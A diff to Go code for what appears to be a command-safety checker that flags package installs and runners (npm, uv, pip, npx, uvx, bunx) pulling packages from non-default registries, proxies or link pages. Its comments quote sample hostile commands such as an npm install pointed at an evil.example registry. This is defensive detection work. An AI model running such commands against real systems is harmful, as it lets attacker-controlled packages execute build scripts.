@@ -277,6 +277,14 @@ func computedNames(prog string, verbs map[string]bool) func(*Result, []string) {
 // index, a registry, a proxy) is not a package.
 func packageNames(prog string, verbs, installs, indexes map[string]bool, remote func(string, bool) bool) func(*Result, []string) {
 	return func(r *Result, ws []string) {
+		if k := sourceOption(ws, 1); k > 0 {
+			// uv sync --default-index=URL, uv tool install --index-url URL:
+			// whatever the command, a URL in its options names where
+			// packages come from.
+			r.Effects |= EffExec | EffComputed
+			r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: k, Why: prog + " " + whyIndexURL})
+			return
+		}
 		verb := -1
 		for i := 1; i < len(ws); i++ {
 			if ws[i] == "" || ws[i][0] == '-' {
@@ -302,7 +310,7 @@ func packageNames(prog string, verbs, installs, indexes map[string]bool, remote 
 					i++
 					val = ws[i]
 				}
-				if (strings.Contains(val, "://") || strings.HasPrefix(val, "//")) && !defaultIndex(val) {
+				if (strings.Contains(val, "://") || strings.HasPrefix(val, "//")) && !defaultIndex(val) || linksPage(val) {
 					// pip install -f http://h/ x, --index-url=…: the
 					// packages come from where the command says, and
 					// their build scripts run.
@@ -365,6 +373,69 @@ func inputList(list map[string]bool, ws []string, i int) bool {
 		return true
 	}
 	return strings.HasPrefix(val, "<(") || strings.HasPrefix(val, "/dev/fd/") || strings.HasPrefix(val, "/proc/self/fd/")
+}
+
+// sourceOption returns the place of the first option word from ws[from]
+// on that names a URL other than the default index's, attached
+// (indexOption) or as the next word (--proxy http://h:8080), or 0. The
+// words of a command a run verb runs are that command's own (uv run
+// pytest --base-url http://…, npx wait-on http://…), and so is what
+// follows "--".
+func sourceOption(ws []string, from int) int {
+	run := false
+	for i := from; i < len(ws); i++ {
+		w := ws[i]
+		switch {
+		case w == "--":
+			return 0
+		case w == "" || w[0] != '-':
+			if run {
+				return 0 // the command's words
+			}
+			run = runVerbs[w]
+			continue
+		case indexOption(w):
+			return i
+		case !strings.Contains(w, "=") && i+1 < len(ws) && urlValue(ws[i+1]):
+			return i
+		}
+	}
+	return 0
+}
+
+// linksPage reports a local page of links (pip -f links.html): its links
+// name where the packages come from, any host.
+func linksPage(v string) bool {
+	l := strings.ToLower(v)
+	return strings.HasSuffix(l, ".html") || strings.HasSuffix(l, ".htm")
+}
+
+// runVerbs are the package managers' commands that run a command
+// (uv run, uv tool run, pnpm dlx, pipx run): the words after it are its.
+var runVerbs = words("run", "x", "exec", "dlx")
+
+// urlValue reports a word that is a URL other than the default index's.
+func urlValue(w string) bool {
+	return (strings.Contains(w, "://") || strings.HasPrefix(w, "//")) && !defaultIndex(w)
+}
+
+// runnerSources is the judge of the package runners (npx, bunx, uvx,
+// pipx run): an option before the package that names a URL (npx
+// --registry=URL x, uvx --index-url URL x) is where the package comes from.
+func runnerSources(prog string) func(*Result, []string) {
+	return func(r *Result, ws []string) {
+		for i := 1; i < len(ws); i++ {
+			w := ws[i]
+			if w == "--" || w == "" || w[0] != '-' {
+				return
+			}
+			if indexOption(w) || !strings.Contains(w, "=") && i+1 < len(ws) && urlValue(ws[i+1]) {
+				r.Effects |= EffExec | EffComputed
+				r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: i, Why: prog + " " + whyIndexURL})
+				return
+			}
+		}
+	}
 }
 
 // indexOption reports an option word that carries a URL other than the
@@ -436,14 +507,12 @@ func remoteInstall(r *Result, words []string) {
 	if !installs {
 		return
 	}
-	for i, w := range words {
-		if indexOption(w) {
-			// npm i @s/x --@s:registry=http://evil.example/: a scope's
-			// registry, a proxy, any option's URL.
-			r.Effects |= EffExec | EffComputed
-			r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: i, Why: "npm " + whyIndexURL})
-			return
-		}
+	if k := sourceOption(words, 1); k > 0 {
+		// npm i @s/x --@s:registry=http://evil.example/, npm ci --proxy
+		// URL: a scope's registry, a proxy, any option's URL.
+		r.Effects |= EffExec | EffComputed
+		r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: k, Why: "npm " + whyIndexURL})
+		return
 	}
 	for _, it := range r.Items {
 		if it.Kind == KindValue && it.Opt != nil && slices.Contains(it.Opt.Long, "registry") && (it.Computed || !defaultIndex(it.Text)) {
@@ -563,7 +632,7 @@ var packageCommand = []Operand{{Role: RoleCommand, ViewOnly: true}}
 func npxModel() *Spec {
 	return &Spec{Name: "npx", Syntax: GNUStop, Open: true, Options: join(npmOptions(), list(
 		val("p", RoleData).does(EffExec|EffComputed, whyRemotePackage).when(RemotePackage), flag("y", "yes"), flag("", "no"), flag("q", "quiet"),
-	)), Operands: packageCommand}
+	)), Operands: packageCommand, Judge: runnerSources("npx")}
 }
 
 // pyRunner is uvx (uv tool run) and pipx run: the package's command with
@@ -574,7 +643,7 @@ func pyRunner(name string) *Spec {
 		val("", RoleData, "from", "with", "spec").does(EffExec|EffComputed, whyRemotePackage).when(pyRemoteSpec),
 		val("", RoleData, "with-requirements", "index", "index-url", "extra-index-url", "pip-args"),
 		val("p", RoleData, "python"), flag("q", "quiet"), flag("", "isolated", "no-cache", "verbose"),
-	), Operands: packageCommand}
+	), Operands: packageCommand, Judge: runnerSources(name)}
 }
 
 // pyRemoteSpec reports a Python requirement fetched from a URL or a
@@ -596,7 +665,7 @@ func pyRemoteSpec(spec string, computed bool) bool {
 func bunxModel() *Spec {
 	return &Spec{Name: "bunx", Syntax: GNUStop, Open: true, Options: list(
 		val("p", RoleData, "package").does(EffExec|EffComputed, whyRemotePackage).when(RemotePackage), flag("", "bun"), flag("", "silent"), flag("", "verbose"), flag("", "no-install"),
-	), Operands: packageCommand}
+	), Operands: packageCommand, Judge: runnerSources("bunx")}
 }
 
 // whyInitializer is why npm init NAME (npm create), yarn create, pnpm
